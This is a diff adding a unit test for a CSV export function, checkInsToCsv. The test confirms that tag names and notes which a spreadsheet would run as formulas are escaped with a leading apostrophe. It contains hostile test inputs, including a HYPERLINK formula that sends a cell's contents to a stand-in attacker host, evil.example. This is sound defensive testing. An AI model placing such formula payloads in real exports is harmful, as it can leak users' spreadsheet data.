@@ -41,6 +41,20 @@ describe('checkInsToCsv', () => {
     ]);
   });
 
+  it('neutralises a note and tag names a spreadsheet would run as formulas, and keeps the numbers numbers', () => {
+    const hostileTags: Tag[] = [
+      { id: 'h1', name: '+cmd', archived: false },
+      { id: 'h2', name: '@SUM(1+1)*cmd', archived: false },
+    ];
+    const note = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
+    const lines = checkInsToCsv([{ ...base, tagIds: ['h2'], note }, { ...imported, tagIds: ['h1'] }], hostileTags).split('\r\n');
+    expect(lines[1]).toBe(`2026-03-01,Europe/Madrid,5,,,,,,,"'+cmd",,2026-03-08T07:30:00.000Z,2026-03-08T08:00:00.000Z`);
+    expect(lines[2]).toBe(
+      `2026-03-08,America/New_York,4,2,3,6.5,3,12,night,"'@SUM(1+1)*cmd",` +
+        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",2026-03-08T07:30:00.000Z,2026-03-08T08:00:00.000Z`,
+    );
+  });
+
   it('writes only the header when there is nothing to export', () => {
     expect(checkInsToCsv([], tags).split('\r\n').length).toBe(2);
   });
